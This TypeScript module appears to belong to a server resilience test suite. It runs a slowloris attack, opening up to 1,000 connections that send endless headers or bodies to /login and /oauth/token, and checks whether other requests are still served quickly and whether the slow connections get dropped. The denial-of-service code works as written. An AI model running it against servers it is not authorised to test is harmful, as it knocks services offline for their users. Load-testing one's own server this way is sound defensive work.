import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { createFindings, type ServerAttack } from './attack.ts';

const dribbleEvery = 250;
const sizes = { whole: { connections: 1000, watched: 45_000 }, quick: { connections: 150, watched: 1500 } };
/** In ms: the slowest answer that others may get meanwhile. */
const slowest = 1000;

const openings = [
  // Headers that never end, and a body that never ends.
  'GET /login HTTP/1.1\r\nHost: HOST\r\nX-A: ',
  'POST /oauth/token HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"a":"',
];

function dribble(socket: Socket, opening: string) {
  socket.write(opening);
  const timer = setInterval(() => socket.writable && socket.write('a'), dribbleEvery);
  socket.once('close', () => clearInterval(timer));
}

async function openAll({ hostname, port, host }: URL, connections: number) {
  const sockets = Array.from({ length: connections }, () => connect(Number(port), hostname));
  for (const [nth, socket] of sockets.entries()) {
    socket.on('error', () => undefined);
    dribble(socket, (openings[nth % openings.length] ?? '').replace('HOST', host));
  }
  await Promise.all(sockets.map((socket) => once(socket, 'connect')));
  return sockets;
}

export const slowloris: ServerAttack = {
  name: 'slowloris',
  bound: `1,000 connections that send 4 bytes a second: others get their answers within ${slowest} ms, and each is hung up on within 45 s`,
  run: async ({ url, isWhole }) => {
    const { note, findings } = createFindings();
    const { connections, watched } = isWhole ? sizes.whole : sizes.quick;
    const sockets = await openAll(new URL(url), connections);
    const end = performance.now() + watched;
    const isOpen = (socket: Socket) => !socket.closed;
    while (performance.now() < end && sockets.some(isOpen)) {
      const begun = performance.now();
      const { status } = await fetch(`${url}/publisher/v1/config`, { signal: AbortSignal.timeout(10_000) });
      const took = performance.now() - begun;
      const isServed = status === 200 && took <= slowest;
      note(
        isServed ? 'others are served' : 'others wait',
        `after ${Math.round(took)} ms: ${status}`,
        isServed,
      );
      await wait(100);
    }
    const open = sockets.filter(isOpen);
    for (const socket of sockets) {
      const isHeld = isWhole && isOpen(socket);
      if (isWhole) note(isHeld ? 'connection still open' : 'connection ended', 'slow connection', !isHeld);
    }
    for (const socket of open) socket.destroy();
    return findings();
  },
};
